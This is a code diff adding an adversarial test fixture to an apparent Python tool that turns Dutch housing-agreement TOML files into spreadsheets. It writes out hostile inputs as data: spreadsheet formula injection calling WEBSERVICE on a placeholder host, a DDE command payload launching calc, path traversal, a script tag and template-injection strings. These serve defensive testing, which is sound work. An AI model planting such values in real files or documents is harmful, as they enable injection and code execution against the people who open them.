@@ -6,6 +6,7 @@ is said otherwise.
 
 from __future__ import annotations
 
+import json
 import re
 from collections.abc import Callable, Iterable, Sequence
 from functools import lru_cache
@@ -186,3 +187,40 @@ COPIES: dict[str, tuple[Callable[[bytes], bytes], tuple[str, ...]]] = {
     ),
 }
 """How each is made, and what is told of it where the receiver has the agreements."""
+
+
+def everywhere(old: str, new: str) -> Callable[[bytes], bytes]:
+    """Put another name in the place of one, in every file."""
+    written = json.dumps(new, ensure_ascii=False)[1:-1]
+
+    def change(held: Files) -> None:
+        for name, text in held.items():
+            held[name] = text.replace(old, written if name.endswith(".toml") else new)
+
+    return files(change)
+
+
+CALL = 'Woon")&WEBSERVICE("http://x")&("'
+NASTY: dict[str, Callable[[bytes], bytes]] = {
+    "a party that ends a formula": everywhere("Woonforte", CALL),
+    "a party that is a formula": everywhere("Habeko Wonen", "=cmd|'/c calc'!A0"),
+    "a party that climbs": everywhere("Woonforte", "..\\..\\x/y"),
+    "a party that is a pattern": everywhere("Habeko Wonen", "*"),
+    "a party without a name": everywhere("Habeko Wonen", ""),
+    "a party of 9,000 letters": everywhere("Habeko Wonen", "H" * 9_000),
+    "a kern that ends a formula": everywhere("Boskoop", 'B")&WEBSERVICE("http://x")&("'),
+    "an agreement that is a script": everywhere("T0-01", "<script>alert(1)</script>"),
+    "a title that is a template": one(
+        "gemeente.toml", 'titel = "', 'titel = "{{ 7*7 }}{% for x in y %}'
+    ),
+    "a theme whose title is no name of a sheet": one(
+        "gemeente.toml", 'titel = "Partners in wonen', 'titel = "[x]:*?/' + "y" * 60
+    ),
+    "a goal that ends where it begins": one("doelen.toml", "basisjaar = 2017", "basisjaar = 2022"),
+    "a goal beyond all homes": one(
+        "doelen.toml", "verandering = 500", "verandering = 999999999.999999999"
+    ),
+    "no agreements": files(lambda held: held.update({"afspraken.toml": "afspraak = []"})),
+    "no classes": files(lambda held: held.update({"inkomensklassen.toml": "klasse = []"})),
+}
+"""Agreements that can be loaded, and that somebody wrote to harm who works with them."""
